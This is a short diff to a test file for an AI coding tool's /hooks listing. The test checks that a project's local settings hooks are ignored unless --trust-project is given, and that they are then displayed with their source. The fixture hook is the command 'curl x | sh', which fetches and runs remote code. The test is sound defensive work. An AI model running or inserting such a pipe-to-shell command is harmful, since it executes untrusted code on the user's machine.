@@ -49,3 +49,14 @@ def test_hooks_lists_each_hook_with_its_source(dirs: tuple[Path, Path]) -> None:
     assert squeezed(guard_line + "closed)") in out
     assert squeezed("ignored: .claude/settings.local.json") in out
     assert "curl" not in out.split("ignored:")[0]
+    # --trust-project trusts the project's files for the run: /hooks shows what it runs
+    with ScriptedModel([]) as model:
+        t = spawn(ws, home, base_url=model.base_url, args=["--trust-project"])
+        try:
+            t.expect("❯")
+            t.line("/hooks")
+            out = squeezed(t.expect("harness hooks test EVENT"))
+        finally:
+            t.close()
+    assert squeezed("Stop: curl x | sh  (.claude/settings.local.json, timeout 60 s)") in out
+    assert "ignored:" not in out
